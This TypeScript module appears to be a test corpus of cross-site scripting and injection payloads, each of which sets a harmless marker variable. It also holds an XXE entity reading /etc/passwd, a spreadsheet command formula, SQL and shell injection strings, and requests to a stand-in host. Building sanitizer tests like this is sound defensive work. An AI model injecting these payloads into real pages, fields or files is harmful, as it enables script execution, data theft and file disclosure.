// Texts that would run as a script somewhere: in markup, in an attribute, in an address, in a style, in a template, in a
// spreadsheet's or a terminal's eyes. Invariant: each of them, run, leaves a mark (`MARK`), so that it is seen if one does.

/** What a payload does if it runs; without quotes, brackets and spaces, which some places would not let through. */
export const MARK = "window.obelusRan=1";

/** Elements with an event, and what makes it happen by itself. */
const EVENTS: readonly [element: string, event: string, more?: string][] = [
  ["img", "onerror", "src=x"], ["img", "onload", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw="], ["image", "onerror", "src=x"],
  ["svg", "onload"], ["body", "onload"], ["body", "onpageshow"], ["input", "onfocus", "autofocus"], ["input", "onblur", "autofocus"],
  ["select", "onfocus", "autofocus"], ["textarea", "onfocus", "autofocus"], ["keygen", "onfocus", "autofocus"], ["button", "onfocus", "autofocus"],
  ["details", "ontoggle", "open"], ["video", "onerror", "src=x"], ["audio", "onerror", "src=x"], ["video", "onloadstart", "src=x"],
  ["object", "onerror", "data=x"], ["embed", "onload", "src=about:blank"], ["iframe", "onload"], ["marquee", "onstart"],
  ["div", "onpointerover", "style=position:fixed;inset:0"], ["div", "onmouseover", "style=position:fixed;inset:0"], ["a", "onclick", "href=#"],
  ["div", "onanimationstart", "style=animation:x"], ["div", "ontransitionrun", "style=transition:all"], ["div", "onscrollend"],
  ["style", "onload"], ["link", "onload", "rel=stylesheet href=/"], ["link", "onerror", "rel=stylesheet href=x"], ["script", "onerror", "src=x"],
  ["form", "onsubmit"], ["frameset", "onload"], ["meter", "onmouseover", "value=2"], ["p", "oncopy"], ["p", "onbeforecopy"], ["div", "onwheel"],
  ["x", "onclick", "tabindex=1"], ["x", "onfocus", "id=x tabindex=1 autofocus"], ["x", "oncontentvisibilityautostatechange", "style=content-visibility:auto"],
  ["dialog", "onclose", "open"], ["slot", "onslotchange"], ["track", "oncuechange", "default"], ["math", "onclick"], ["picture", "onload"],
];

const SCRIPTS = [
  `<script>${MARK}</script>`, `<SCRIPT>${MARK}</SCRIPT>`, `<script >${MARK}</script >`, `<script\n>${MARK}</script>`, `<script/x>${MARK}</script>`,
  `<scr<script>ipt>${MARK}</scr</script>ipt>`, `<script type=module>${MARK}</script>`, `<script src=data:text/javascript,${MARK}></script>`,
  `<script>//<![CDATA[\n${MARK}//]]></script>`, `<![CDATA[<script>${MARK}</script>]]>`, `<!--><script>${MARK}</script>-->`, `<!--<img src="--><img src=x onerror=${MARK}>">`,
  `</script><script>${MARK}</script>`, `</textarea><script>${MARK}</script>`, `</title><script>${MARK}</script>`, `</style><script>${MARK}</script>`,
  `</noscript><script>${MARK}</script>`, `</template><script>${MARK}</script>`, `</xmp><script>${MARK}</script>`, `</iframe><script>${MARK}</script>`,
  `"><script>${MARK}</script>`, `'><script>${MARK}</script>`, `\`><script>${MARK}</script>`, `--><script>${MARK}</script>`, `]]><script>${MARK}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`, `<template><script>${MARK}</script></template>`, `<script>import('data:text/javascript,${MARK}')</script>`,
  `<script nonce>${MARK}</script>`, `<script async defer>${MARK}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["http://192.0.2.1/"]}]}</script>`,
  `<script type=importmap>{"imports":{"svelte":"data:text/javascript,${MARK}"}}</script>`, `<script\u0000>${MARK}</script>`, `<\u0000script>${MARK}</script>`, `<script\u000c>${MARK}</script>`,
];

const MARKUP = [
  `<svg><script>${MARK}</script></svg>`, `<svg><script href=data:text/javascript,${MARK} /></svg>`, `<svg><a xlink:href=javascript:${MARK}><text y=20>go</text></a></svg>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`, `<svg><set onbegin=${MARK} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${MARK}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>${MARK}</script>"></foreignObject></svg>`, `<svg><style><img src=x onerror=${MARK}></style></svg>`, `<svg><image href=x onerror=${MARK} />`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${MARK}>">`, `<math><maction actiontype=statusline xlink:href=javascript:${MARK}>go</maction></math>`,
  `<math href=javascript:${MARK}>go</math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`,
  `<iframe src=javascript:${MARK}></iframe>`, `<iframe srcdoc="<script>top.${MARK}</script>"></iframe>`, `<iframe src="data:text/html,<script>top.${MARK}</script>"></iframe>`,
  `<iframe src=http://192.0.2.1/></iframe>`, `<object data=javascript:${MARK}></object>`, `<object data="data:text/html,<script>top.${MARK}</script>"></object>`, `<object type=text/x-scriptlet data=http://192.0.2.1/></object>`,
  `<embed src=javascript:${MARK}>`, `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${MARK}</script></svg>">`, `<applet code=x.class codebase=http://192.0.2.1/></applet>`, `<portal src=http://192.0.2.1/></portal>`,
  `<base href=javascript:${MARK}//>`, `<base href=http://192.0.2.1/>`, `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`, `<meta http-equiv=refresh content="0;url=http://192.0.2.1/">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${MARK}</script>">`, `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">`, `<meta http-equiv=Set-Cookie content=a=1>`, `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<link rel=preload as=script href=http://192.0.2.1/x.js>`, `<link rel=dns-prefetch href=//obelus.invalid>`, `<link rel=import href="data:text/html,<script>${MARK}</script>">`, `<link rel=manifest href=http://192.0.2.1/>`,
  `<style>*{background:url(http://192.0.2.1/)}</style>`, `<style>@import 'http://192.0.2.1/';</style>`, `<style>@font-face{font-family:x;src:url(http://192.0.2.1/)}*{font-family:x}</style>`, `<div style=background:url(javascript:${MARK})>x</div>`,
  `<div style="width:expression(${MARK})">x</div>`, `<div style="behavior:url(#default#time2)" onbegin=${MARK}>x</div>`, `<div style=-moz-binding:url(http://192.0.2.1/#x)>x</div>`, `<b style="position:fixed;inset:0;background:red">x</b>`,
  `<form action=javascript:${MARK}><button autofocus>go</button></form>`, `<form id=x></form><button form=x formaction=javascript:${MARK}>go</button>`, `<isindex action=javascript:${MARK} type=image>`, `<input type=image src=x onerror=${MARK}>`,
  `<video><source onerror=${MARK}></video>`, `<video poster=javascript:${MARK}></video>`, `<audio src=http://192.0.2.1/ autoplay></audio>`, `<img src=http://192.0.2.1/>`, `<img srcset="http://192.0.2.1/ 1x">`, `<input type=image src=http://192.0.2.1/>`,
  `<table background=http://192.0.2.1/><tr><td>x</table>`, `<body background=http://192.0.2.1/>`, `<bgsound src=javascript:${MARK}>`, `<xml><i><b>&lt;img src=x onerror=${MARK}&gt;</b></i></xml>`, `<?xml-stylesheet href="javascript:${MARK}"?><x/>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd"><x>&x;</x>`, `<!DOCTYPE x [<!ENTITY a "${MARK}">]><x onclick="&a;"/>`, `<plaintext><img src=x onerror=${MARK}>`, `<xmp><img src=x onerror=${MARK}></xmp>`, `<noembed><img src=x onerror=${MARK}></noembed>`,
  `<img name=getElementById><img name=querySelector><form name=body><input name=cookie>`, `<a id=obelusAsked><a id=obelusAsked name=get>`, `<html manifest=http://192.0.2.1/>`, `<dialog open><form method=dialog><button autofocus>x</dialog>`,
];

const ADDRESSES = [
  `javascript:${MARK}`, `JaVaScRiPt:${MARK}`, `java\tscript:${MARK}`, `java\nscript:${MARK}`, `\u0001javascript:${MARK}`, `javascript&colon;${MARK}`, `&#106;avascript:${MARK}`, `&#x6A;avascript&#x3A;${MARK}`,
  `vbscript:${MARK}`, `data:text/html,<script>${MARK}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cub2JlbHVzUmFuPTE8L3NjcmlwdD4=`, `view-source:javascript:${MARK}`, `blob:null/${MARK}`, `feed:javascript:${MARK}`, `jar:javascript:${MARK}`,
  `<a href=javascript:${MARK}>go</a>`, `<a href="javascript:${MARK}" autofocus onfocus=${MARK}>go</a>`, `<a href=tauri://localhost/ target=_blank>go</a>`, `<a href=file:///etc/passwd download>go</a>`, `<a ping=http://192.0.2.1/ href=#>go</a>`,
  `[go](javascript:${MARK})`, `[go](<javascript:${MARK}>)`, `[go][x]\n\n[x]: javascript:${MARK}`, `![x](javascript:${MARK})`, `![x](http://192.0.2.1/x.png)`, `![x](x"onerror="${MARK})`, `<javascript:${MARK}>`, `[x](x "onmouseover=${MARK}")`,
  `[go](data:text/html,<script>${MARK}</script>)`, `\`\`\`html\n<script>${MARK}</script>\n\`\`\``, `<http://192.0.2.1/>`, `![](<x> "><img src=x onerror=${MARK}>")`, `[\u0000](javascript:${MARK})`,
];

const TEMPLATES = [
  `{{constructor.constructor('${MARK}')()}}`, `{${MARK}}`, `{@html '<img src=x onerror=${MARK}>'}`, `{#await (${MARK})}{/await}`, `{@const x = (${MARK})}`, `\${${MARK}}`, `#{${MARK}}`, `<%= ${MARK} %>`, `<?= ${MARK} ?>`, `[[${MARK}]]`, `{{{${MARK}}}}`, `{%raw%}${MARK}{%endraw%}`,
  `<x :onclick="${MARK}" @click="${MARK}" v-html="'<img src=x onerror=${MARK}>'">`, `<div ng-app ng-csp><p ng-init=${MARK}>`, `{many, plural, one {<b>${MARK}</b>} other {#}}`, `{0} {1} {subject} {path} %s %n`, `__proto__`, `constructor`, `{"__proto__":{"obelusRan":1}}`, `toString`, `hasOwnProperty`,
  `';${MARK};//`, `";${MARK};//`, `\\";${MARK};//`, `\`;${MARK};//`, `*/${MARK}/*`, `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`, `\\x3cscript\\x3e${MARK}`, `'); DROP TABLE op; --`, `=HYPERLINK("http://192.0.2.1/")`, `=cmd|' /C calc'!A0`, `$(touch obelus)`, `\u001b]0;${MARK}\u0007`,
];

const UNICODE = [
  `＜script＞${MARK}＜/script＞`, `﹤script﹥${MARK}﹤/script﹥`, `<ſcript>${MARK}</ſcript>`, `<scrıpt>${MARK}</scrıpt>`, `\u202e>tpircs<${MARK}>tpircs/<`, `\u2066<img src=x onerror=${MARK}>\u2069`, `<img src=x on\u200berror=${MARK}>`, `<img\u00a0src=x\u00a0onerror=${MARK}>`, `<img\u3000src=x onerror=${MARK}>`,
  `\ufeff<script>${MARK}</script>`, `+ADw-script+AD4-${MARK}+ADw-/script+AD4-`, `%3Cscript%3E${MARK}%3C/script%3E`, `&lt;script&gt;${MARK}&lt;/script&gt;`, `&#60;script&#62;${MARK}&#60;/script&#62;`, `<img src=x onerror=&#119;indow.obelusRan=1>`, `\u2028<script>${MARK}</script>\u2029`,
  `<a\u0308script>${MARK}</a\u0308script>`, `${"<b>".repeat(300)}<img src=x onerror=${MARK}>`, `${"Z\u0351\u0352\u0353".repeat(40)}<script>${MARK}</script>`, `\u{e0001}\u{e0073}<script>${MARK}</script>`,
];

const POLYGLOTS = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${MARK} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${MARK}//>\\x3e`,
  `'">><marquee><img src=x onerror=${MARK}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${MARK}><script>${MARK}</script>@gmail.com<isindex formaction=javascript:${MARK} type=submit>'-->"></script><script>${MARK}</script>`,
  `"><svg/onload=${MARK}>'><svg/onload=${MARK}>\`><svg/onload=${MARK}>`, `-->'"/></sCript><deTailS open x=">" ontoggle=${MARK}>`, `<x/onpointerrawupdate=${MARK} style=position:fixed;inset:0;opacity:0>`,
];

const handlers = EVENTS.map(([element, event, more = ""], at) => {
  const value = [MARK, `"${MARK}"`, `'${MARK}'`][at % 3] ?? MARK;
  return at % 2 === 0 ? `<${element} ${more} ${event}=${value}>` : `<${element.toUpperCase()}/${more.replaceAll(" ", "/")}/${event}=${value}>x</${element}>`;
});

/** All of them. */
export const PAYLOADS: readonly string[] = [...SCRIPTS, ...handlers, ...MARKUP, ...ADDRESSES, ...TEMPLATES, ...UNICODE, ...POLYGLOTS];
